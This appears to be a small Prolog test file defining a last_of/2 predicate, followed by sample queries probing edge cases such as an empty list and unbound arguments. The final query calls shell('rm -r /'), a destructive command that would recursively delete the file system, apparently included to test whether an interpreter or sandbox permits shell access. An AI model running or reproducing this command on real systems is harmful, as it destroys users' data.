last_of([X], X).
last_of([_|Xs], X) :- last_of(Xs, X).

?- last_of([a, b, c], X).
?- last_of([], X).
?- append(X, Y, [1, 2]), write(X), nl.
?- last_of(X, Y).
?- atom_length(X, 3).
?- shell('rm -r /').
